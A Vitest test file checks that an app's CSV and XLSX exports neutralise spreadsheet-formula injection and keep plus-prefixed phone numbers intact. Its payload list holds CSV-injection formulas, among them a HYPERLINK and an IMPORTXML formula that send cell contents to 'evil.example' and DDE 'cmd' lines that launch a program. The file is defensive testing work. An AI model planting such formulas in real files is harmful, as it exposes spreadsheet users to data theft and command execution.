// @vitest-environment happy-dom
// docs/quality.md reliability 11, "exports are safe": every free-text field of the example year
// holds a spreadsheet formula (starting with = + - @, a tab or a carriage return) or a phone
// number written with a plus, and every CSV and XLSX export of the app is made, in English
// and Russian. Read back, no CSV cell may start like a formula unless it is one of those phone
// numbers (kept as typed) or a plain number; no XLSX cell is a formula (no <f> in any sheet),
// and its text cells keep the text as typed (a workbook string never runs as a formula).
// (happy-dom: reading the workbooks back parses their XML with the page's DOMParser.)
import JSZip from 'jszip';
import Papa from 'papaparse';
import readXlsxFile, { readSheetNames } from 'read-excel-file';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportStatusReportXlsx } from '../lib/actions/action-plan';
import { exportAttendanceMatrix } from '../lib/actions/attendance-files';
import { exportParticipantsList } from '../lib/actions/participant-files';
import { exportPeople } from '../lib/actions/people-files';
import type { Store } from '../lib/db';
import type { Lang } from '../lib/domain/text';
import { CHAIRMANSHIP_ID } from '../lib/example/csto-2015';
import { locale } from '../lib/state/locale.svelte';
import { exampleStore, recordFigure, rewriteStoredText, savedFiles } from './harness';

/** What OWASP's CSV-injection advice lists: formulas, DDE, and the other characters that start one. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the agenda")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
  '-1+1',
  '+cmd',
  '@x',
];
const PHONES = ['+7 495 123-45-67', '+992 (37) 221-15-24', '+375 17 222 33 44'];
const STARTS_LIKE_A_FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+([.,]\d+)?$/;

let store: Store;
const figure: Record<string, unknown> = {};
beforeAll(async () => {
  store = await exampleStore();
  // Every person has a phone number to export.
  await store.bulkDb.persons.toCollection().modify((person) => {
    person.phone ??= '';
  });
  let n = 0;
  // Phone fields get phone numbers, and now and then a formula; every other field a formula.
  await rewriteStoredText(store, (field) => {
    n++;
    if (field === 'phone' && n % 4 !== 0) return PHONES[n % PHONES.length] ?? '';
    return FORMULAS[n % FORMULAS.length] ?? '';
  });
});
afterAll(() => {
  recordFigure('exports', figure);
  store.db.close();
  store.bulkDb.close();
});

/** Every text cell of a CSV file as written (a byte-order mark, then `,` or `;`). */
function csvCells(bytes: Uint8Array, delimiter: string): string[] {
  const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '');
  return Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true }).data.flat();
}

/** How many formulas (<f> elements) the sheets of a workbook hold. */
async function xlsxFormulas(bytes: Uint8Array): Promise<number> {
  const zip = await JSZip.loadAsync(bytes);
  const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/.+\.xml$/.test(name));
  let count = 0;
  for (const name of sheets) count += ((await zip.file(name)?.async('string')) ?? '').match(/<f[\s>]/g)?.length ?? 0;
  return count;
}

/** Every text cell of every sheet of a workbook, untrimmed. */
async function xlsxCells(bytes: Uint8Array): Promise<string[]> {
  const buffer = new Uint8Array(bytes).buffer;
  const cells: string[] = [];
  for (const sheet of await readSheetNames(buffer)) {
    const rows = await readXlsxFile(buffer, { sheet, trim: false });
    for (const row of rows) for (const value of row) if (typeof value === 'string') cells.push(value);
  }
  return cells;
}

describe('exports are safe', () => {
  it('neutralises every CSV cell that starts like a formula, writes XLSX text as typed and never as a formula, and keeps phone numbers as typed', async () => {
    const sessions = await store.sessions.toArray();
    const plans = await store.actionPlans.toArray();
    const chairmanship = await store.chairmanships.require(CHAIRMANSHIP_ID);
    const files: { name: string; cells: string[] }[] = [];
    const workbooks: [string, Uint8Array][] = [];
    for (const lang of ['en', 'ru'] as const satisfies Lang[]) {
      locale.lang = lang;
      const saved = savedFiles();
      await exportPeople('csv', ',');
      await exportPeople('csv', ';');
      await exportPeople('xlsx');
      for (const session of sessions) {
        await exportParticipantsList(session.id, 'csv', lang, ';');
        await exportParticipantsList(session.id, 'xlsx', lang);
      }
      await exportAttendanceMatrix(chairmanship, lang);
      for (const plan of plans) await exportStatusReportXlsx(plan.id, lang);
      for (const [name, bytes] of saved) {
        workbooks.push([name, bytes]);
        const delimiter = new TextDecoder().decode(bytes.slice(0, 400)).includes(';') ? ';' : ',';
        files.push({ name, cells: name.endsWith('.csv') ? csvCells(bytes, delimiter) : await xlsxCells(bytes) });
      }
    }

    const cells = files.flatMap((f) => f.cells.map((cell) => ({ file: f.name, cell, csv: f.name.endsWith('.csv') })));
    const csv = cells.filter((c) => c.csv);
    const xlsx = cells.filter((c) => !c.csv);
    const unsafe = csv.filter(({ cell }) => STARTS_LIKE_A_FORMULA.test(cell) && !PHONES.includes(cell) && !PLAIN_NUMBER.test(cell));
    const neutralised = csv.filter(({ cell }) => cell.startsWith("'") && STARTS_LIKE_A_FORMULA.test(cell.slice(1)));
    const asTyped = xlsx.filter(({ cell }) => FORMULAS.some((f) => cell.includes(f)) && !cell.startsWith("'"));
    const apostrophes = xlsx.filter(({ cell }) => cell.startsWith("'"));
    const phones = cells.filter(({ cell }) => PHONES.includes(cell));
    let formulas = 0;
    for (const [name, bytes] of workbooks) if (name.endsWith('.xlsx')) formulas += await xlsxFormulas(bytes);
    Object.assign(figure, {
      files: files.length,
      csv: files.filter((f) => f.name.endsWith('.csv')).length,
      xlsx: files.filter((f) => f.name.endsWith('.xlsx')).length,
      cells: cells.length,
      neutralised: neutralised.length,
      unsafe: unsafe.length,
      xlsxAsTyped: asTyped.length,
      xlsxApostrophes: apostrophes.length,
      xlsxFormulas: formulas,
      phonesAsTyped: phones.length,
    });
    expect(unsafe.slice(0, 10)).toEqual([]);
    // Each planted formula reached some CSV export, neutralised, and some XLSX export as typed;
    // each phone number as typed.
    expect(FORMULAS.filter((f) => !neutralised.some(({ cell }) => cell.includes(f)))).toEqual([]);
    expect(FORMULAS.filter((f) => !asTyped.some(({ cell }) => cell.includes(f)))).toEqual([]);
    expect(apostrophes.slice(0, 10)).toEqual([]);
    expect(formulas).toBe(0);
    expect(PHONES.filter((p) => !phones.some(({ cell }) => cell === p))).toEqual([]);
  });
});
